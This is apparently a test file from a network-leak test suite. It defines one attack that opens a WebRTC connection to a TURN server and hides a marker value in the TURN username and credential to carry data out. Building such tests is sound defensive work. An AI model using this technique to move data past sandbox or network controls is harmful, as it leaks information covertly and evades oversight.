import {defineAttack} from '../../attack.ts';

export const attack = defineAttack({
  kind: 'network',
  tries: 'A TURN request, with data in its user.',
  script: `const peer = new RTCPeerConnection({iceServers: [{urls: \`turn:\${host}:\${port}\`, username: mark, credential: mark}]});
peer.createDataChannel(mark);
await peer.setLocalDescription();`,
});
